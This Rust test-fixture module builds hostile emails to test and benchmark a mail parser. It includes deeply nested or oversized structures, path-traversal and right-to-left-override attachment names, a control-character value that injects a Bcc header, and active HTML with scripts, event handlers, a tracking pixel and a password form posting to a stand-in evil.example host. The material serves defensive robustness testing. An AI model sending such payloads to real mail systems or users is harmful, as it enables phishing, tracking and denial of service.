//! Hostile mails: for the stories, which see what becomes of them, and for the bench, which measures what each costs. Names
//! nothing of the other tests.

use std::fmt::Write as _;

pub const MARIA: &str = "maria@client.example";
pub const DESK: &str = "soporte@desk.example";

/// A mail of María's with `fields` (the last of them without its line end) and `body`.
pub fn mail(name: &str, fields: &str, body: &str) -> (String, Vec<u8>) {
    let raw = format!(
        "From: =?utf-8?Q?Mar=C3=ADa?= <{MARIA}>\r\nTo: <{DESK}>\r\nSubject: {name}\r\nMessage-ID: <{}@client.example>\r\nMIME-Version: 1.0\r\n{fields}\r\n\r\n{body}",
        name.replace(' ', "-")
    );
    (name.to_owned(), raw.into_bytes())
}

pub const TEXT: &str = "Content-Type: text/plain; charset=utf-8";
pub const MIXED: &str = "Content-Type: multipart/mixed; boundary=b";
pub const HELLO: &str = "La impresora del segundo piso no funciona desde ayer.\r\n";

/// A multipart with one text and one file.
pub fn with_file(name: &str, fields: &str, bytes: &str) -> (String, Vec<u8>) {
    mail(name, MIXED, &format!("--b\r\n{TEXT}\r\n\r\n{HELLO}--b\r\n{fields}\r\n\r\n{bytes}\r\n--b--\r\n"))
}

pub fn deep() -> [(String, Vec<u8>); 3] {
    let mut multiparts = String::new();
    for n in 0..10_000 {
        write!(multiparts, "--b{n}\r\nContent-Type: multipart/mixed; boundary=b{}\r\n\r\n", n + 1).unwrap();
    }
    let multiparts = format!("{multiparts}--b10000\r\n{TEXT}\r\n\r\n{HELLO}");
    let mails = format!("{}{TEXT}\r\n\r\n{HELLO}", "Content-Type: message/rfc822\r\n\r\n".repeat(10_000));
    let wide = format!("--b\r\n{TEXT}\r\n\r\n{HELLO}") + &"--b\r\n\r\nx\r\n".repeat(10_000) + "--b--\r\n";
    [
        mail("10000 nested multiparts", "Content-Type: multipart/mixed; boundary=b0", &multiparts),
        mail("10000 nested mails", "Content-Type: message/rfc822", &mails),
        mail("10000 parts", MIXED, &wide),
    ]
}

/// More parts and header fields than the parser is given to make records of.
pub fn structures() -> [(String, Vec<u8>); 2] {
    let parts = format!("--b\r\n{TEXT}\r\n\r\n{HELLO}") + &"--b\r\n\r\n".repeat(30_000);
    [
        mail("30000 parts", MIXED, &parts),
        mail("250000 headers", &format!("{}{TEXT}", "a:\r\n".repeat(250_000)), HELLO),
    ]
}

pub fn long() -> Vec<(String, Vec<u8>)> {
    let many: String = (0..100_000).fold(String::new(), |mut all, n| {
        write!(all, "X-Header-{n}: {n}\r\n").unwrap();
        all
    });
    let words = "=?utf-8?Q?=C3=A1?=\r\n ".repeat(50_000);
    let nested_words = "=?utf-8?B?".repeat(20_000);
    let references: String = (0..50_000).fold(String::new(), |mut all, n| {
        write!(all, "<{n}@client.example>\r\n ").unwrap();
        all
    });
    let people = format!("Cc: {}", vec!["Ana <a@x.example>"; 20_000].join(",\r\n "));
    let megabyte = "x".repeat(1 << 20);
    vec![
        mail("100000 headers", &format!("{many}{TEXT}"), HELLO),
        mail("encoded words", &format!("Comments: {words}x\r\nSubject: {words}x\r\n{TEXT}"), HELLO),
        mail(
            "encoded words inside",
            &format!("Comments: {nested_words}\r\nFrom: {nested_words}\r\n{TEXT}"),
            HELLO,
        ),
        mail("50000 references", &format!("References: {references}<x@y>\r\n{TEXT}"), HELLO),
        mail("20000 people", &format!("{people}\r\n{TEXT}"), HELLO),
        mail("comments in comments", &format!("Cc: {}\r\n{TEXT}", "(".repeat(100_000)), HELLO),
        mail("a megabyte in a line", TEXT, &format!("{HELLO}{megabyte}\r\n")),
        mail("a megabyte in a header", &format!("X-Long: {megabyte}\r\n{TEXT}"), HELLO),
        mail("a megabyte of quotes", TEXT, &format!("{HELLO}{}\r\n", ">".repeat(1 << 20))),
        mail("a megabyte of line ends", TEXT, &format!("{HELLO}{}", "\r\n".repeat(1 << 19))),
        mail("a megabyte of marks", TEXT, &format!("{HELLO}{}\r\n", "e\u{301}\u{202e}".repeat(1 << 17))),
        mail(
            "deep html",
            "Content-Type: text/html",
            &format!("<p>{HELLO}</p>{}", "<div><table><tr><td>".repeat(20_000)),
        ),
    ]
}

pub fn files() -> Vec<(String, Vec<u8>)> {
    let named = |name: &str, file: &str| {
        with_file(
            name,
            &format!(
                "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"{file}\""
            ),
            "bytes",
        )
    };
    vec![
        named("a path", "../../etc/passwd"),
        named("a windows path", "C:\\\\Windows\\\\system32\\\\calc.exe"),
        named("a device", "CON.txt"),
        named("right to left", "=?utf-8?Q?factura=E2=80=AEfdp.exe?="),
        named("control characters", "=?utf-8?Q?a=00b=0D=0ABcc:_x@y=1B[31m.txt?="),
        named("a long name", &"n".repeat(5000)),
        named("no name", ""),
        named("dots", ".."),
        with_file(
            "winmail.dat",
            "Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64",
            "eJ8+IgAAAAAAAA==",
        ),
        with_file(
            "calendar",
            "Content-Type: text/calendar; method=REQUEST; charset=utf-8",
            "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR",
        ),
        with_file(
            "pgp keys",
            "Content-Type: application/pgp-keys; name=key.asc",
            "-----BEGIN PGP PUBLIC KEY BLOCK-----",
        ),
        mail(
            "pgp",
            "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b",
            "--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b\r\nContent-Type: application/octet-stream; name=encrypted.asc\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n--b--\r\n",
        ),
        mail(
            "s mime",
            "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=smime.p7m",
            "MIAGCSqGSIb3DQEHA6CAMIACAQAxggG=\r\n",
        ),
        mail(
            "s mime signed",
            "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=b",
            &format!(
                "--b\r\n{TEXT}\r\n\r\n{HELLO}--b\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqG\r\n--b--\r\n"
            ),
        ),
    ]
}

pub fn active() -> Vec<(String, Vec<u8>)> {
    let html = "<html><head><style>body{background:url(http://evil.example/css)}</style><script>evil()</script><base href=\"http://evil.example/\"><meta http-equiv=refresh content=\"0;url=http://evil.example/\"></head><body onload=evil()><p>La impresora del segundo piso no funciona.</p><img src=\"http://evil.example/pixel.gif\" onerror=evil()><img src=\"cid:logo\"><iframe src=\"http://evil.example/\"></iframe><svg onload=evil()></svg><a href=\"javascript:evil()\">aquí</a><form action=\"http://evil.example/\"><input name=password></form></body></html>";
    let related = format!(
        "--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--b\r\nContent-Type: image/svg+xml; name=logo.svg\r\nContent-ID: <logo>\r\nContent-Disposition: inline\r\n\r\n<svg onload=\"evil()\"/>\r\n--b--\r\n"
    );
    vec![
        mail("html", "Content-Type: text/html; charset=utf-8", html),
        mail("html with cid", "Content-Type: multipart/related; boundary=b", &related),
        mail(
            "charsets",
            "Content-Type: text/plain; charset=\"utf-7\"",
            "+ADw-script+AD4-evil()+ADw-/script+AD4-\r\n",
        ),
        mail("unknown charset", "Content-Type: text/plain; charset=\"x-../../etc\"", HELLO),
        mail(
            "wrong encoding",
            "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64",
            "!!!! no base64 \u{1}\u{2} !!!!\r\n",
        ),
        mail("controls", TEXT, "La impresora\u{0} no \u{1b}[2Jfunciona\u{7}\u{8} desde \u{202e}reya\r\n"),
    ]
}

/// What is dear by its size alone.
pub fn large() -> Vec<(String, Vec<u8>)> {
    let line = "TG9yZW0gaXBzdW0gZG9sb3Igc2l0IGFtZXQsIGNvbnNlY3RldHVyIGFkaXBpc2NpbmcgZWxpdC4=\r\n";
    let file = |size: usize| {
        let fields = "Content-Type: application/zip; name=bomb.zip\r\nContent-Transfer-Encoding: base64";
        with_file("a large file", fields, &line.repeat(size / line.len()))
    };
    let quoted = "=C3=A1".repeat(12) + "=\r\n";
    let quoted = quoted.repeat(20_000_000 / quoted.len());
    vec![
        file(49_000_000),
        mail(
            "20 MB of base64 text",
            "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64",
            &line.repeat(20_000_000 / line.len()),
        ),
        mail(
            "20 MB of quoted-printable without a line end",
            "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable",
            &quoted,
        ),
        mail("20 MB of HTML", "Content-Type: text/html", &"<b><i>x</b>".repeat(20_000_000 / 11)),
    ]
}
